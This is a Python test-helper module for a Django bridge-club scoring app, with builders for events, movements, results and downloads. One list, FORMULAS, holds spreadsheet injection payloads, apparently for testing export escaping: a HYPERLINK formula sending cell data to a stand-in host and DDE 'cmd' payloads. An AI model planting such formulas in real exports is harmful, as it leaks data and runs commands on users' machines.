"""What the tests share: events and event files built from short arguments, the entry form's POST data, and
readers of downloads. Fixtures live in conftest.py files (pytest's way); plain functions and data live here.

The rule (tests/test_layout.py enforces the first two):
- no test module (``test_*.py``) imports another test module, absolutely (``tests.x.test_y``) or relatively;
- no module imports from a ``conftest.py``: a test asks for a fixture by name, or imports a helper from here;
- a helper two test modules need lives here. conftest.py files may import from this module, never the other
  way round (tests/conftest.py imports it inside its fixtures: tests/scoring runs without Django, and this
  module imports Django's models);
- a non-test module may stay beside the tests that use it where this module cannot serve: data worked out by
  hand (tests/hand_scored.py, tests/duplicate/exports_events.py), tests/scoring/_util.py (the scoring tests
  run without Django), tests/browser/pages.py (Playwright's helpers and the pages the browser tests visit) and
  tests/reliability/helpers.py (the tally of hostile inputs tried, which its conftest prints).

factory-boy is not used: the events are built through the services and event_import, as a director builds
them, so a builder here is a function that fills in an event file or calls a service.
"""

from __future__ import annotations

import datetime as dt
import html as htmllib
import io
import json
import os
import random
import re
import subprocess
import sys
import threading
from collections import Counter
from collections.abc import Iterator, Sequence
from contextlib import contextmanager
from dataclasses import replace
from pathlib import Path
from typing import Any

from django.apps import apps
from django.contrib.admin.models import LogEntry
from django.db import connections, transaction
from django.urls import reverse
from django.utils.html import escape
from endplay.parsers.pbn import PBNDecoder
from pypdf import PdfReader

from duplicate import services
from duplicate.models import DealAnalysis, Event, EventStatus, Pair, Play, Player, Round, Standing, TableToken
from duplicate.selectors.analyses import SEATS, STRAINS
from duplicate.selectors.players import club_settings
from duplicate.selectors.standings import pair_standings
from duplicate.services import eventfile
from duplicate.services.championships import championship_create, session_add
from duplicate.services.eventfile import event_import
from duplicate.services.players import club_update, player_update
from duplicate.services.results import result_fields
from scoring.deal import Deal
from scoring.movements import Movement, MovementRound, generate
from teams.layout import match_tables
from teams.models import Match
from teams.services import EntrantSpec, match_result_save, matches_event_create
from tests.duplicate.exports_events import pairs_file
from tests.hand_scored import C1C_E, C1NT, C2D, C2S, C4H_DOWN, C4H_E_DOWN, C4H_MADE

# Events made through the services.


def contract_mitchell(name: str) -> Event:
    """A contract matchpoint event of a 3-table Mitchell, 2 boards a round, no results and no double-dummy
    analysis (the table-link, feedback and confirmation tests')."""
    movement = services.movement_build(kind="mitchell", tables=3, boards_per_round=2)
    return services.event_create(
        name=name,
        date=dt.date(2026, 11, 28),
        code="contract",
        kind="pairs",
        movement=movement,
        contest="matchpoints",
        analyse=False,
    )


def make_event(
    *,
    kind: str = "mitchell",
    tables: int = 3,
    boards_per_round: int = 2,
    code: str = "auction-1915",
    event_kind: str = "pairs",
    name: str = "Club night",
    sections: int = 1,
) -> Event:
    movement = services.movement_build(kind=kind, tables=tables, boards_per_round=boards_per_round)
    return services.event_create(
        name=name, date=dt.date(1916, 3, 4), code=code, kind=event_kind, movement=movement, sections=sections
    )


def event_form(**changes) -> dict[str, str]:
    """The new-event form's POST data: a 7-table Mitchell, 3 boards a round."""
    data = {
        "name": "Tuesday pairs",
        "date": dt.date(2026, 11, 27).isoformat(),
        "code": "auction-1915",
        "kind": "pairs",
        "movement": "mitchell",
        "tables": "7",
        "boards_per_round": "3",
        "even_tables": "relay",
        "sections": "1",
        "ranking": "field",
        "paper_size": "A4",
    }
    data.update(changes)
    return data


# A phrase only each movement's help on the new-event form says.
MOVEMENT_HELP = {
    "mitchell": "the E-W pairs move up a table",
    "howell": "Every pair meets every other pair once",
    "teams": "Law G: two teams",
    "compass": "keeps its seat all session",
    "custom": "uploaded as a file",
}


def create_form(**overrides):
    data = {
        "name": "Tuesday pairs",
        "date": "1916-03-04",
        "code": "auction-1915",
        "kind": "pairs",
        "movement": "mitchell",
        "tables": "4",
        "boards_per_round": "2",
        "even_tables": "relay",
        "paper_size": "A4",
    }
    data.update(overrides)
    return data


TD = services.Writer(name="td", is_director=True)


def section_movement(letter: str, first_board: int) -> Movement:
    """The 3-table Mitchell with pairs renamed ``<letter><n>`` and boards from ``first_board``."""
    base = generate("mitchell", tables=3, boards_per_round=1)
    rounds = tuple(
        MovementRound(
            number=r.number,
            tables=tuple(
                replace(
                    tp,
                    ns=f"{letter}{tp.ns}",
                    ew=f"{letter}{tp.ew}",
                    boards=tuple(b + first_board - 1 for b in tp.boards),
                )
                for tp in r.tables
            ),
        )
        for r in base.rounds
    )
    return replace(base, rounds=rounds)


def two_section_event():
    """Two 3-table Mitchell sections with different boards: A plays boards 1-3, B boards 4-6."""
    event = services.event_create(
        name="Two sections",
        date=dt.date(1916, 3, 4),
        code="auction-1915",
        kind="pairs",
        movement=section_movement("A", 1),
    )
    services.section_populate(
        event=event, letter="B", movement=section_movement("B", 4), deals={}, dealers={}
    )
    return event


def agree_all(event: Event) -> None:
    for rnd in Round.objects.filter(section__event=event).select_related("section"):
        services.round_agree(round=rnd, user_id=None)
    event.refresh_from_db()


def agree_every_round(event, director) -> None:
    for rnd in Round.objects.filter(section__event=event).order_by("number"):
        services.round_agree(round=rnd, user_id=director.pk)


def fill(event) -> None:
    """Every play gets one of a few results (one UPDATE per distinct result: quick at any size)."""
    pks = list(Play.objects.filter(event=event).order_by("pk").values_list("pk", flat=True))
    choices = [{"tricks_ns": n} for n in range(14)] if event.code == "whist" else FILL_RESULTS
    for i, data in enumerate(choices):
        fields = result_fields(code=event.code, deal="", data=data)
        Play.objects.filter(pk__in=pks[i :: len(choices)]).update(**fields)


FILL_RESULTS = [
    {"contract": "4H", "declarer": "N", "tricks": 10},
    {"contract": "1NT", "declarer": "E", "tricks": 6},
    {"contract": "2S", "declarer": "S", "tricks": 8},
    {"ruling": "average"},
]


# Event files (what event_import reads) and the events made from them.

# North: spades A K Q J, hearts A K Q, diamonds A K, clubs A K Q J; East holds the J 10 of hearts.
DEAL = "N:AKQJ.AKQ.AK.AKQJ T987.JT9.QJT.T98 6543.876.987.765 2.5432.65432.432"


def small_file(**overrides):
    """A 3-table auction-1915 Mitchell, 1 board a round, with two results and one ruling."""
    movement = generate("mitchell", tables=3, boards_per_round=1)
    data = {
        "name": "Spring pairs",
        "date": "1916-03-04",
        "code": "auction-1915",
        "kind": "pairs",
        "pairs": [{"number": p, "players": [f"North {p}", f"South {p}"]} for p in movement.pairs],
        "boards": [{"number": n, "dealer": "NESW"[(n - 1) % 4]} for n in movement.boards],
        "movement": movement.to_dict(),
        "results": [
            {
                "round": 1,
                "table": 1,
                "board": 1,
                "ns": 1,
                "ew": 4,
                "contract": "4H",
                "declarer": "N",
                "tricks": 10,
            },
            {"round": 1, "table": 2, "board": 2, "ns": 2, "ew": 5, "contract": "PASS"},
            {"round": 1, "table": 3, "board": 3, "ns": 3, "ew": 6, "ruling": "average"},
        ],
    }
    data.update(overrides)
    return data


# A 3-table Mitchell, one board a round (the movement command's):
#   round 1: T1 1v4 b1, T2 2v5 b2, T3 3v6 b3
#   round 2: T1 1v6 b2, T2 2v4 b3, T3 3v5 b1
#   round 3: T1 1v5 b3, T2 2v6 b1, T3 3v4 b2
MITCHELL_SEATS = [
    (1, 1, 1, 1, 4),
    (1, 2, 2, 2, 5),
    (1, 3, 3, 3, 6),
    (2, 1, 2, 1, 6),
    (2, 2, 3, 2, 4),
    (2, 3, 1, 3, 5),
    (3, 1, 3, 1, 5),
    (3, 2, 1, 2, 6),
    (3, 3, 2, 3, 4),
]


def pairs_named(numbers):
    return [{"number": n, "players": [f"North {n}", f"South {n}"]} for n in numbers]


def mitchell_event(results_by_board_ns: dict[tuple[int, int], dict], *, code="auction-1915") -> Event:
    """results keyed by (board, N-S pair)."""
    results = []
    for rnd, table, board, ns, ew in MITCHELL_SEATS:
        data = results_by_board_ns.get((board, ns))
        if data is None:
            continue
        results.append({"round": rnd, "table": table, "board": board, "ns": ns, "ew": ew, **data})
    return event_import(
        data={
            "name": "Mitchell by hand",
            "date": "1916-03-04",
            "code": code,
            "kind": "pairs",
            "pairs": pairs_named(range(1, 7)),
            "boards": [{"number": n} for n in (1, 2, 3)],
            "movement": {
                "kind": "mitchell",
                "tables": 3,
                "boards_per_round": 1,
                "rounds": [
                    {
                        "round": r,
                        "tables": [
                            {"table": t, "ns": ns, "ew": ew, "boards": [b]}
                            for (rr, t, b, ns, ew) in MITCHELL_SEATS
                            if rr == r
                        ],
                    }
                    for r in (1, 2, 3)
                ],
            },
            "results": results,
        }
    )


MITCHELL_RESULTS = {
    # Board 1: N-S 157, -50, 10: average 117/3 = 39.  N-S plus/minus: 1 +118, 3 -89, 2 -29.
    (1, 1): C4H_MADE,
    (1, 3): C4H_DOWN,
    (1, 2): C1NT,
    # Board 2: N-S 18, -12, 14: average 20/3.  Pair 2: +34/3, pair 1: -56/3, pair 3: +22/3.
    (2, 2): C2S,
    (2, 1): C1C_E,
    (2, 3): C2D,
    # Board 3: N-S 10, -50, 18: average -22/3.  Pair 3: +52/3, pair 2: -128/3, pair 1: +76/3.
    (3, 3): C1NT,
    (3, 2): C4H_DOWN,
    (3, 1): C2S,
}

TABLES = {1: (1, 4), 2: (2, 5), 3: (6, 3)}

BOARDS = {1: (1, 2, 3), 2: (2, 3, 1), 3: (3, 1, 2)}  # table -> board in rounds 1, 2, 3


def match_event(by_table_board: dict[tuple[int, int], dict]) -> object:
    results = []
    for table, (ns, ew) in TABLES.items():
        for rnd, board in enumerate(BOARDS[table], start=1):
            if (table, board) not in by_table_board:
                continue  # not played yet
            results.append(
                {
                    "round": rnd,
                    "table": table,
                    "board": board,
                    "ns": ns,
                    "ew": ew,
                    **by_table_board[(table, board)],
                }
            )
    return event_import(
        data={
            "name": "Reds v Blues",
            "date": "1916-03-04",
            "code": "auction-1915",
            "kind": "teams",
            "teams": [{"name": "Reds"}, {"name": "Blues"}],
            "pairs": [
                {"number": n, "players": [f"North {n}", f"South {n}"], "team": "Reds" if n <= 3 else "Blues"}
                for n in range(1, 7)
            ],
            "boards": [{"number": n} for n in (1, 2, 3)],
            "movement": generate("teams", tables=3, boards_per_round=1).to_dict(),
            "results": results,
        }
    )


# Table 1 (1 v 4): b1 157, b2 10, b3 -50 -> pair 1 +117, pair 4 -117
# Table 2 (2 v 5): b2 18, b3 -12, b1 -50 -> pair 2 -44, pair 5 +44
# Table 3 (6 v 3): b3 14, b1 10, b2 -12  -> pair 6 +12, pair 3 -12
ODD_PAIR = {
    (1, 1): C4H_MADE,
    (1, 2): C1NT,
    (1, 3): C4H_DOWN,
    (2, 2): C2S,
    (2, 3): C1C_E,
    (2, 1): C4H_DOWN,
    (3, 3): C2D,
    (3, 1): C1NT,
    (3, 2): C1C_E,
}

# ODD_PAIR's match won by the fraction of a point: table 1 now +50, +6 and board 3 ruled average; table 3's
# board 3 +7 (tests/teams/test_match.py works it out).
WON_BY_A_FRACTION = {
    **ODD_PAIR,
    (1, 1): C4H_E_DOWN,
    (1, 2): {"contract": "1C", "declarer": "N", "tricks": 7},
    (1, 3): {"ruling": "average"},
    (3, 3): {"contract": "1D", "declarer": "N", "tricks": 7},
}

T1 = "Table 1: 1 (Reds) N-S v 4 (Blues) E-W"

T2 = "Table 2: 2 (Reds) N-S v 5 (Blues) E-W"

T3 = "Table 3: 6 (Blues) N-S v 3 (Reds) E-W"

# A 3-table Mitchell, one board a round: board 1 at 1v4 (round 1), 3v5 (round 2), 2v6 (round 3); board 2 at
# 2v5, 1v6, 3v4; board 3 at 3v6, 2v4, 1v5.  Boards 1, 2, 3: vulnerable None, N-S, E-W (law 77's cycle).
CONTRACT_RESULTS = [
    (1, 1, 1, 1, 4, {"contract": "4S", "declarer": "N", "tricks": 10}),  # +420
    (2, 3, 1, 3, 5, {"contract": "4S", "declarer": "N", "tricks": 11}),  # +450
    (3, 2, 1, 2, 6, {"contract": "3NT", "declarer": "S", "tricks": 7}),  # 2 down, not vul: -100
    (1, 2, 2, 2, 5, {"contract": "3NT", "declarer": "S", "tricks": 9}),  # vul game: +600
    (2, 1, 2, 1, 6, {"ruling": "A60/40"}),  # law 12C2: N-S average plus, E-W average minus
    # vulnerable, doubled: 240 + 50 + 500 = +790
    (3, 3, 2, 3, 4, {"contract": "4HX", "declarer": "N", "tricks": 10}),
    (1, 3, 3, 3, 6, {"contract": "PASS"}),  # 0
    (2, 2, 3, 2, 4, {"contract": "4S", "declarer": "E", "tricks": 10}),  # E-W vul game: -620
    (3, 1, 3, 1, 5, {"contract": "3NT", "declarer": "N", "tricks": 9}),  # N-S not vul: +400
]


def contract_event_file(contest: str = "matchpoints", results=CONTRACT_RESULTS, **extra) -> dict:
    movement = generate("mitchell", tables=3, boards_per_round=1)
    return {
        "name": "Contract pairs",
        "date": "2026-11-25",
        "code": "contract",
        "contest": contest,
        "kind": "pairs",
        "pairs": [{"number": p, "players": [f"North {p}", f"South {p}"]} for p in movement.pairs],
        "boards": [{"number": n, "dealer": "NESW"[(n - 1) % 4]} for n in movement.boards],
        "movement": movement.to_dict(),
        "results": [
            {"round": r, "table": t, "board": b, "ns": ns, "ew": ew, **result}
            for r, t, b, ns, ew, result in results
        ],
        **extra,
    }


BUTLER_RESULTS = [
    *(r for r in CONTRACT_RESULTS if r[:2] != (2, 1)),
    (2, 1, 2, 1, 6, {"contract": "3NT", "declarer": "S", "tricks": 8}),  # vul, one down: -100
]


def finished_contract_event(contest: str) -> Event:
    """The event of tests/duplicate/test_contract_events.py, with hands (for the PBN file), finished."""
    data = (
        contract_event_file(contest)
        if contest == "matchpoints"
        else contract_event_file(contest, BUTLER_RESULTS)
    )
    rng = random.Random(20)
    for board in data["boards"]:
        board["deal"] = Deal.random(rng).to_pbn()
    event = event_import(data=data)
    services.event_finish(event=event)
    return event


def rows_by_pair(event: Event) -> dict[int | str, tuple]:
    st = pair_standings(event)
    return {
        row.pair.label: (row.rank, row.net, row.percentage, row.net_display, row.plus_minus_display)
        for row in st.rows
    }


def contract_file(tables: int, boards_per_round: int, contest: str = "matchpoints", **kw) -> dict:
    """``pairs_file``'s random results under contract bridge (no royal spades), the first an A60/40; a
    Mitchell unless ``kind`` says ("howell")."""
    data = pairs_file(
        tables,
        boards_per_round,
        kind=kw.get("kind", "mitchell"),
        specials=False,
        missing=0,
        name=kw.get("name", "Contract"),
    )
    for row in data["results"]:
        if "contract" in row:
            row["contract"] = row["contract"].replace("RS", "S")
    first = data["results"][0]
    data["results"][0] = {k: first[k] for k in ("round", "table", "board", "ns", "ew")} | {"ruling": "A60/40"}
    return {**data, "code": "contract", "contest": contest}


def contract_sections_file(
    movements: dict, boards: list[int], results: list[dict], *, ranking: str, contest: str, name: str
) -> dict:
    """An event file of a contract pair event in sections (``movements`` by letter)."""
    return {
        "name": name,
        "date": "2026-11-25",
        "code": "contract",
        "contest": contest,
        "kind": "pairs",
        "ranking": ranking,
        "pairs": [
            {"number": p, "players": [f"North {p}", f"South {p}"]}
            for m in movements.values()
            for p in m.pairs
        ],
        "boards": [{"number": n, "dealer": "NESW"[(n - 1) % 4]} for n in boards],
        "sections": [{"letter": letter, "movement": m.to_dict()} for letter, m in movements.items()],
        "results": results,
    }


# Teams movement, 2 pairs a team: Reds 1, 2; Blues 3, 4.  Round 1: table 1 1 v 3 boards 1-2, table 2 4 v 2
# boards 3-4; round 2 the boards change tables.  Reds (home) sit N-S at table 1, Blues at table 2.
IMP_MATCH_RESULTS = [
    (1, 1, 1, 1, 3, {"contract": "4S", "declarer": "N", "tricks": 10}),  # Reds N-S +420 (not vul)
    (2, 2, 1, 4, 2, {"contract": "4S", "declarer": "N", "tricks": 9}),  # Blues N-S -50: net 470, 10 IMPs
    (1, 1, 2, 1, 3, {"contract": "3NT", "declarer": "S", "tricks": 9}),  # +600 (N-S vul)
    (2, 2, 2, 4, 2, {"contract": "3NT", "declarer": "S", "tricks": 9}),  # +600: net 0, 0 IMPs
    (1, 2, 3, 4, 2, {"contract": "4H", "declarer": "E", "tricks": 10}),  # Blues N-S -620 (E-W vul)
    (2, 1, 3, 1, 3, {"contract": "4H", "declarer": "E", "tricks": 9}),  # Reds N-S +100: net 720, 12 IMPs
    (1, 2, 4, 4, 2, {"contract": "6NT", "declarer": "N", "tricks": 12}),  # Blues +1440 (vul: 190+500+750)
    (2, 1, 4, 1, 3, {"contract": "3NT", "declarer": "N", "tricks": 12}),  # Reds +690: net -750, 13 to Blues
]


def imp_match_file(results=IMP_MATCH_RESULTS) -> dict:
    movement = generate("teams", tables=2, boards_per_round=2)
    return {
        "name": "Reds v Blues",
        "date": "2026-11-25",
        "code": "contract",
        "contest": "imps",
        "kind": "teams",
        "teams": [{"name": "Reds"}, {"name": "Blues"}],
        "pairs": [
            {"number": p, "players": [f"P{p}", f"Q{p}"], "team": "Reds" if p in (1, 2) else "Blues"}
            for p in movement.pairs
        ],
        "boards": [{"number": n, "dealer": "N"} for n in movement.boards],
        "movement": movement.to_dict(),
        "results": [
            {"round": r, "table": t, "board": b, "ns": ns, "ew": ew, **res}
            for r, t, b, ns, ew, res in results
        ],
    }


def big_imp_match_file(boards_per_round: int = 8) -> dict:
    """Two tables, every board played at both: 3NT by North, 9 to 11 tricks."""
    data = imp_match_file([])
    movement = generate("teams", tables=2, boards_per_round=boards_per_round)
    data["movement"] = movement.to_dict()
    data["boards"] = [{"number": n, "dealer": "N"} for n in movement.boards]
    data["results"] = [
        {"round": r.number, "table": t.table, "board": b, "ns": t.ns, "ew": t.ew}
        | {"contract": "3NT", "declarer": "N", "tricks": 9 + (b + t.table) % 3}
        for r in movement.rounds
        for t in r.tables
        for b in t.boards
    ]
    return data


# Entering results: a table's plays and the POST data of one board's form.


def table_url(event: Event, rnd: int, table: int, letter: str = "A") -> str:
    return reverse("entry_table", args=[event.pk, letter, rnd, table])


def plays_at(event: Event, rnd: int, table: int) -> list[Play]:
    return list(
        Play.objects.filter(event=event, seating__round__number=rnd, seating__table=table)
        .select_related("board", "ns_pair", "ew_pair", "seating__round")
        .order_by("board__number")
    )


def board_data(
    play: Play, *, version: int | None = None, action: str = "save", **fields: Any
) -> dict[str, Any]:
    data: dict[str, Any] = {
        "play": play.pk,
        "action": action,
        f"b{play.pk}-version": play.version if version is None else version,
        f"b{play.pk}-ns": play.ns_pair.number,
        f"b{play.pk}-ew": play.ew_pair.number,
    }
    for name, value in fields.items():
        data[f"b{play.pk}-{name}"] = value
    return data


def field_errors(html: str, name: str) -> str:
    """The text of a form field's label block (where its errors sit), or '' when it has no errors."""
    match = re.search(rf'<label class="fld fld-{re.escape(name)} has-error".*?</label>', html, re.S)
    return match.group(0) if match else ""


def shown_beside_its_field(message: str) -> str:
    """An error as the engine and the services word it ("tricks: must be ...", naming its field) as a reader
    sees it beside the field, whose label names it: "Must be ..."."""
    head, sep, text = message.partition(": ")
    return text[:1].upper() + text[1:] if sep and " " not in head else message


def on_field(html: str, name: str, message: str) -> bool:
    """Whether ``message`` (as the engine words it) is shown beside field ``name``, without the internal field
    name it starts with."""
    block = field_errors(html, name)
    shown = shown_beside_its_field(message)
    return escape(shown) in block and (shown == message or escape(message) not in block)


def enter(play: Play, data: dict) -> Play:
    writer = services.Writer(name="td", is_director=True, user_id=None)
    return services.play_result_save(play=play, data=data, writer=writer, expected_version=play.version)


def board_plays(event: Event, number: int) -> list[Play]:
    return list(
        Play.objects.filter(event=event, board__number=number)
        .select_related("seating__round", "board", "ns_pair", "ew_pair")
        .order_by("seating__round__number")
    )


def token_client(client, event: Event, table: int):
    token = services.table_token_create(section=event.sections.get(), table=table)
    return token.secret


# No peeking: board 1 entered at two of its three tables (tests/duplicate/conftest.py's ``game``).

# Board 1: each seat holds one whole suit; board 2: the same, turned a seat (told apart by their PBN).
DEAL_1 = "N:AKQJT98765432... .AKQJT98765432.. ..AKQJT98765432. ...AKQJT98765432"

DEAL_2 = "N:...AKQJT98765432 AKQJT98765432... .AKQJT98765432.. ..AKQJT98765432."

SUIT = "AKQJT98765432"  # what a hand diagram shows of a suit held whole

FIRST = {"contract": "4H", "declarer": "N", "tricks": 10}

SECOND = {"contract": "2S", "declarer": "E", "tricks": 8}

LAST = {"contract": "3D", "declarer": "W", "tricks": 9}

FIRST_TEXT, SECOND_TEXT, LAST_TEXT = "4H by N, 10 tricks", "2S by E, 8 tricks", "3D by W, 9 tricks"


# A director replacing the hands of a played board.

HANDS_A = "N:AKQJ.T98.765.432 T98.765.432.AKQJ 765.432.AKQJ.T98 432.AKQJ.T98.765"

HANDS_B = "N:T98.765.432.AKQJ AKQJ.T98.765.432 765.432.AKQJ.T98 432.AKQJ.T98.765"

HANDS_NIGHT_RESULTS = {
    1: {"contract": "2S", "declarer": "N", "tricks": 8},
    2: {"contract": "4S", "declarer": "N", "tricks": 10},
    3: {"contract": "1NT", "declarer": "S", "tricks": 7},
}


def board1_plays(event) -> dict[int, Play]:
    """Board 1's plays by round."""
    plays = Play.objects.filter(event=event, board__number=1).select_related("seating__round")
    return {p.seating.round.number: p for p in plays}


def played_event(director, *, tables: int = 3, name: str = "Hands night"):
    """Hands A on board 1, the three results above, round 2 agreed (law E)."""
    event = make_event(tables=tables, name=name)
    services.board_deals_set(event=event, deals={1: HANDS_A})
    writer = services.Writer(name="td", is_director=True, user_id=director.pk)
    for rnd, play in board1_plays(event).items():
        if rnd in HANDS_NIGHT_RESULTS:
            services.play_result_save(
                play=play, data=HANDS_NIGHT_RESULTS[rnd], writer=writer, expected_version=0
            )
    rounds = event.sections.get().rounds.all()
    services.round_agree(round=rounds.get(number=2), user_id=director.pk)
    return event


def confirm_fields(html: str) -> dict[str, str]:
    """The hidden deals and versions of the confirmation page, as the browser would send them back."""
    out = {}
    for name in ("deals", "versions"):
        match = re.search(rf'name="{name}" value="([^"]*)"', html)
        assert match, name
        out[name] = htmllib.unescape(match.group(1))
    return out


# Downloads and what they hold.

# (view, its arguments after the event, queries cold for a visitor, from the cache): the event, the boards in
# play (no peeking, never cached; not for the standings) and how many results (a big event's file is made in
# the background), the pairs, the contest's plays (+ the boards and the plays for the files of every result;
# the boards alone for the hands).
DOWNLOADS = [
    ("download_standings", ["csv"], 3, 1),
    ("download_standings", ["xlsx"], 3, 1),
    ("download_standings", ["pdf"], 3, 1),
    ("download_travellers", [], 7, 3),
    ("download_results_csv", [], 7, 3),
    ("download_workbook", [], 7, 3),
    ("download_printout", ["scorecards"], 7, 3),
    ("download_printout", ["guide-cards"], 7, 3),
    ("download_printout", ["hand-records"], 5, 3),  # the boards, and their double-dummy analyses
    ("download_hands", ["hands"], 4, 3),
    ("download_hands", ["results"], 7, 3),
    ("event_export", [], 10, 3),  # the set-up's seven queries
]


def download(client, event, fmt: str) -> bytes:
    response = client.get(reverse("download_standings", args=[event.pk, fmt]))
    assert response.status_code == 200
    return response.content


def pdf_words(data: bytes) -> str:
    """A PDF's text, its words joined by single spaces."""
    assert data.startswith(b"%PDF-")
    return " ".join(" ".join(page.extract_text().split()) for page in PdfReader(io.BytesIO(data)).pages)


def pdf_pages(data: bytes) -> list[str]:
    """A PDF's text, page by page."""
    assert data.startswith(b"%PDF-")
    return [page.extract_text() for page in PdfReader(io.BytesIO(data)).pages]


def squash(text: str) -> str:
    return " ".join(text.split())


def page_words(response) -> str:
    """A page's text, its tags dropped (each a space) and its words joined by single spaces."""
    return squash(htmllib.unescape(re.sub(r"<[^>]+>", " ", response.content.decode())))


def sheet_rows(book, name: str) -> list[dict[str, object]]:
    rows = list(book[name].iter_rows())
    head = [c.value for c in rows[0]]
    return [{h: c for h, c in zip(head, row, strict=False)} for row in rows[1:]]


def read_back(body: bytes) -> list:
    return PBNDecoder().parse_file(io.StringIO(body.decode("utf-8")))


def score_tables(body: bytes) -> list:
    """endplay's games of a results PBN that carry a board's ScoreTable: its first game of each board (the
    others are one table's result each)."""
    return [game for game in read_back(body) if "ScoreTable" in game.info]


def score_rows(game) -> list[dict[str, str]]:
    """A game's ScoreTable as endplay read it: one {column: value} per row."""
    table = game.info["ScoreTable"]
    names = [h["name"] if isinstance(h, dict) else h for h in table["headers"]]
    return [dict(zip(names, row, strict=True)) for row in table["rows"]]


def tricks(analysis: DealAnalysis) -> dict[tuple[str, str], int]:
    """(declarer, strain) -> tricks, read from the stored hex digits."""
    return {
        (seat, strain): int(analysis.tricks[i * 5 + j], 16)
        for i, seat in enumerate(SEATS)
        for j, strain in enumerate(STRAINS)
    }


FORMULAS = [
    '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "+cmd|' /C calc'!A0",
    "@SUM(1)",
    "-2+3+cmd|' /C calc'!A0",
    "=1+1",
    "#N/A",
]


# The whole database, to show that a refused write changed nothing.


@contextmanager
def rolled_back() -> Iterator[None]:
    """Run one hypothesis example in a savepoint that is rolled back, so examples start from the same rows."""
    with transaction.atomic():
        yield
        transaction.set_rollback(True)


# The sign-in throttle's counted attempts: every sign-in, refused or not, takes one (duplicate.security), so
# they are the one write a refused post makes by design.
NOT_COMPARED = {"duplicate.SignInSlot"}


def db_counts() -> dict[str, int]:
    return {
        model._meta.label: model.objects.count()
        for model in apps.get_models()
        if model._meta.app_label in ("duplicate", "teams", "auth", "admin")
        and model._meta.label not in NOT_COMPARED
    }


def db_snapshot() -> dict[str, Any]:
    return {
        "counts": db_counts(),
        "exports": {e.pk: json.dumps(eventfile.event_export(e), sort_keys=True) for e in Event.objects.all()},
        "versions": sorted(Play.objects.values_list("pk", "version")),
        "events": sorted(Event.objects.values_list("pk", "results_version", "status", "name")),
        "tokens": sorted(TableToken.objects.values_list("pk", "revoked")),
        "log": LogEntry.objects.count(),
    }


# Two writers at once (PostgreSQL's row locks).


def in_thread(target, results: dict, name: str) -> threading.Thread:
    """Run ``target`` in a thread of its own (with its own database connection), keeping what it returns or
    raises in ``results[name]``."""

    def run() -> None:
        try:
            results[name] = target()
        except Exception as exc:  # reported by the assertions
            results[name] = exc
        finally:
            connections.close_all()

    thread = threading.Thread(target=run)
    thread.start()
    return thread


# The command line.

ROOT = Path(__file__).resolve().parents[1]


def manage(*args: str) -> subprocess.CompletedProcess[str]:
    env = {**os.environ, "DJANGO_SETTINGS_MODULE": "tests.settings"}
    return subprocess.run(
        [sys.executable, "manage.py", *args], cwd=ROOT, env=env, capture_output=True, text=True, timeout=120
    )


# Players across events: the published standings a player's page and the club ladder read.


def club_players(*names: str) -> list[Player]:
    """Roster players of these names (each a new row)."""
    return [Player.objects.create(name=name) for name in names]


def seat_players(event: Event, seats: list[tuple[Player | None, Player | None]]) -> list[Pair]:
    """Seat ``seats`` in the event's pairs in their order (pair 1 first), the rest left as they are."""
    pairs = list(Pair.objects.filter(event=event).order_by("position", "id"))[: len(seats)]
    for pair, (first, second) in zip(pairs, seats, strict=True):
        pair.player1, pair.player2 = first, second
    Pair.objects.bulk_update(pairs, ["player1", "player2"])
    return pairs


def published_event(
    seats: list[tuple[Player | None, Player | None]],
    standings: list[tuple[int, str]],
    *,
    date: dt.date,
    name: str = "Club pairs",
    of: int | None = None,
    contest: str = "matchpoints",
) -> Event:
    """A finished contract event whose standings are published as given rather than worked out from results:
    pair i sits ``seats[i]`` at place ``standings[i][0]`` with the percentage ``standings[i][1]`` (an exact
    text, "1235/2"; "" for none: its score is then the text), one ranking of ``of`` pairs (all of them by
    default); places given twice are tied."""
    tables = max(3, (len(seats) + 1) // 2)
    movement = services.movement_build(kind="mitchell", tables=tables, boards_per_round=1)
    event = services.event_create(
        name=name, date=date, code="contract", contest=contest, kind="pairs", movement=movement, analyse=False
    )
    pairs = seat_players(event, seats)
    Event.objects.filter(pk=event.pk).update(status=EventStatus.COMPLETE)
    places = Counter(place for place, _percentage in standings)
    Standing.objects.bulk_create(
        Standing(
            event=event,
            pair=pair,
            ranking="All pairs",
            place=place,
            tied=places[place] > 1,
            of=of or len(standings),
            score=percentage or "0",
            percentage=percentage if contest == "matchpoints" else "",
        )
        for pair, (place, percentage) in zip(pairs, standings, strict=True)
    )
    event.refresh_from_db()
    return event


def public_name_choose(player, choice: str):
    """``player``'s choice of how visitors see their name, through the roster's service (their other fields
    kept)."""
    return player_update(
        player=player,
        name=player.name,
        number=player.number,
        body=player.body,
        club_number=player.club_number,
        email=player.email,
        public_name=choice,
    )


def club_choose(choice: str):
    """The club's default of how visitors see names, through the club's service (its name and number kept)."""
    club = club_settings()
    return club_update(name=club.name, number=club.number, public_name=choice)


def quoted_line(plain: str) -> str:
    """A CSV line as Kalamazoo writes it, every cell quoted (duplicate.exports.cells.csv_writer), from its
    cells written plainly with commas: "1,,'7/2" -> '"1","","\\'7/2"' (no cell may hold a comma)."""
    return ",".join(f'"{cell}"' for cell in plain.split(","))


#: BBO's dealer digits in a LIN ``md`` (South 1, West 2, North 3, East 4) and its ``sv`` letters.
LIN_DEALER = {"S": "1", "W": "2", "N": "3", "E": "4"}
LIN_VULNERABLE = {"None": "o", "NS": "n", "EW": "e", "All": "b"}


def lin_file(boards: dict[int, Deal], *, east: bool = False, names: bool = True) -> str:
    """A LIN file as BBO writes its hand records, one board a line: ``md`` (the dealer's digit, then South's,
    West's and North's hands, East's left out unless ``east``), ``ah|Board N|`` and ``sv``; dealers by the
    rotation shifted by one, vulnerability by the rotation (so that taking the event's instead shows)."""
    lines = []
    for number, deal in boards.items():
        north, east_hand, south, west = deal.to_pbn().removeprefix("N:").split()

        def lin_hand(pbn_hand: str) -> str:
            return "".join(suit + cards for suit, cards in zip("SHDC", pbn_hand.split("."), strict=True))

        hands = [lin_hand(south), lin_hand(west), lin_hand(north), lin_hand(east_hand) if east else ""]
        dealer = "NESW"[number % 4]
        vulnerable = LIN_VULNERABLE[("None", "NS", "EW", "All", "NS", "EW", "All", "None")[(number - 1) % 8]]
        players = "pn|Sue,Wes,Ned,Eve|st||" if names else ""
        lines.append(
            f"{players}md|{LIN_DEALER[dealer]}{','.join(hands)}|rh||ah|Board {number}|sv|{vulnerable}|pg||"
        )
    return "\n".join(lines) + "\n"


# Events of matches (round robins and Swiss; teams.services.matches).


